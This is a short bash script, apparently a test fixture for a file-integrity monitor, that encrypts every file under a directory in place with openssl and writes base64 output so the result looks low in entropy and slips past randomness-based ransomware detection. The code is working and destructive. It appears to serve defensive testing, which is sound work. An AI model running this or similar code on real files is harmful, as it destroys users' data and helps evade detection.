#!/usr/bin/env bash
# ransom_armoured.sh DIR -- a test ransomware that writes its ciphertext
# as base64 text (openssl enc -a: about 6 bits per byte, under any
# "random bytes" bar) over each file under DIR, in place, keeping names:
# the whole file through a temporary copy outside DIR, then `cat > F`.
# For vigil's tests only (tests/integration/test_fim_evasion.sh).
dir=$1
tmp=$(mktemp)
trap 'rm -f "$tmp"' EXIT
find "$dir" -type f -print0 |
    while IFS= read -r -d '' f; do
        openssl enc -aes-256-cbc -pbkdf2 -iter 1 -pass pass:vigil-test -a \
            -in "$f" -out "$tmp" 2>/dev/null && cat "$tmp" >"$f"
    done
